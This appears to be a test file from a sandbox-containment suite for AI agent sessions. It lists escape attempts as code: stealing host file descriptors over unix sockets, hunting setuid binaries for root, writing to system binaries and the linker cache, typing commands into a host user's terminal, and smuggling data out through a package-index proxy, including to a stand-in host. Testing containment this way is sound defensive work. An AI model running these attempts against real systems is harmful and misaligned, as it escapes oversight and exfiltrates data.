/**
 * Attempts from an agent's session, which sees all of /usr and may open unix sockets: the attempts
 * of skills once more, and those that need what only a session has.
 */
import * as fs from 'node:fs';
import { join } from 'node:path';
import { type Attempt, isReceived, type Proof, printsSecret, printsThrough } from '../row.ts';
import { filesystemRows } from './filesystem.ts';
import { namespaceRows } from './namespaces.ts';
import { networkRows } from './network.ts';
import { privilegeRows } from './privileges.ts';
import { processRows } from './processes.ts';

// Only runs of skills have a read-only folder, a folder of the skill and secrets of their own, and
// only their changes reach the host.
const isOfSkills = /library|skill|AT_mount|CRM_TOKEN|_proxy|\/tool'|\/dev\/tty/;

function inSession(rows: readonly Attempt[]): Attempt[] {
  return rows
    .filter(
      ({ code, ends, needs }) => !isOfSkills.test(code) && ends !== true && needs === undefined,
    )
    .map((row) => ({ ...row, name: `${row.name}, in a session`, in: 'session', twin: row.name }));
}

const typedAtVictim: Proof = ({ token, world }) => {
  const typed = join(world.folder, 'home/typed');
  return fs.existsSync(typed) && fs.readFileSync(typed, 'utf8').includes(token);
};

export const sessionFileRows: readonly Attempt[] = inSession(filesystemRows);
export const sessionNamespaceRows: readonly Attempt[] = inSession(namespaceRows);
export const sessionProcessRows: readonly Attempt[] = inSession(processRows);

export const sessionNetworkRows: readonly Attempt[] = [
  ...inSession(networkRows),
  {
    name: 'take an open file of the host over a unix socket, in a session',
    wants: 'a file of the host',
    in: 'session',
    proof: printsSecret,
    code: `s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect('\\0' + filesName)
_, files, _, _ = socket.recv_fds(s, 1, 1); print(os.pread(files[0], 99, 0))`,
  },
];

/** Programs and folders of the system, and terminals. */
export const sessionPrivilegeRows: readonly Attempt[] = [
  ...inSession(privilegeRows),
  {
    name: 'get root’s rights by the setuid programs of the system, in a session',
    wants: 'root',
    in: 'session',
    proof: printsThrough,
    code: `for folder in ('/usr/bin', '/usr/sbin', '/usr/lib', '/usr/libexec', '/usr/local/bin'):
    for above, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(above, name); found = os.lstat(path)
            if not stat.S_ISREG(found.st_mode) or not found.st_mode & 0o4000: continue
            try: p = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
            except OSError: continue
            for _ in range(20):
                ids = [l.split() for l in open('/proc/%d/status' % p.pid) if l.startswith('Uid')] if os.path.exists('/proc/%d' % p.pid) else []
                won(os.getuid() != 0 and any(one[2] == '0' for one in ids))
                time.sleep(0.005)
            p.kill(); p.wait()`,
    seconds: 10,
  },
  {
    name: 'change a program of the system, in a session',
    wants: 'changed programs for every user',
    in: 'session',
    as: 'root',
    proof: printsThrough,
    // Opens the file for writing, and writes nothing.
    code: `os.close(os.open('/usr/bin/wc', os.O_WRONLY)); won()`,
  },
  {
    name: 'change the settings of the linker for every program, in a session',
    wants: 'its own library in every program',
    in: 'session',
    as: 'root',
    proof: printsThrough,
    code: `os.close(os.open('/etc/ld.so.cache', os.O_WRONLY)); won()`,
  },
  ...(['session', undefined] as const).map(
    (place): Attempt => ({
      name: `type at a pseudo-terminal of the host${place === undefined ? '' : ', in a session'}`,
      wants: 'a command in the shell of a person',
      ...(place === undefined ? {} : { in: place }),
      proof: typedAtVictim,
      code: `fd = os.open(victimTerminal, os.O_RDWR | os.O_NOCTTY); os.write(fd, token.encode() + b'\\n'); time.sleep(0.3)`,
    }),
  ),
];

const index = 'http://npm.index.skillgate.internal';

// The bare twin sends the same bytes to a proxy without rules.
const asks: readonly (readonly [name: string, code: string])[] = [
  ['send data in a query to', `get('${index}/lib?d=' + token)`],
  ['send data in a path below a package to', `get('${index}/lib/' + token)`],
  ['send data in a path with dots to', `get('${index}/lib/%2e%2e/-/' + token)`],
  ['search by words at', `get('${index}/-/v1/search?text=' + token)`],
  ['send data in the body of a question to', `get('${index}/lib', body=token)`],
  ['publish a package at', `get('${index}/lib', method='PUT', body=token)`],
  [
    'send data in a method to',
    `get('${index}/lib', method='GET' + token.upper())
get('${index}/lib', method=token)`,
  ],
  [
    'send data in a header to',
    `get('${index}/lib', headers='X-Data: %s\\nCookie: %s\\n' % (token, token))`,
  ],
  [
    'send data as user of',
    `get('http://%s@npm.index.skillgate.internal/lib' % token, 'npm.index.skillgate.internal')`,
  ],
  ['reach another port beside', `get('${index}:22/' + token)`],
  [
    'reach another host by the name of',
    `get('http://elsewhere.example/' + token, 'npm.index.skillgate.internal')`,
  ],
  [
    'reach an index that nobody granted, beside',
    `get('http://python.index.skillgate.internal/simple/%s/' % token)`,
  ],
  [
    'open a tunnel to',
    `send('CONNECT npm.index.skillgate.internal:80 HTTP/1.1\\nHost: npm.index.skillgate.internal:80\\n\\n', 'GET /-/%s HTTP/1.1\\nHost: npm.index.skillgate.internal\\n\\n' % token)`,
  ],
  [
    'switch to another protocol at',
    `get('${index}/lib', headers='Connection: Upgrade\\nUpgrade: websocket\\nSec-WebSocket-Key: %s\\n' % token)`,
  ],
];

/** Ways out by the package index of a session. */
export const sessionIndexRows: readonly Attempt[] = asks.map(([act, code]) => ({
  name: `${act} the index of a session`,
  wants: 'a way out by the index',
  in: 'session',
  proof: isReceived,
  code,
}));
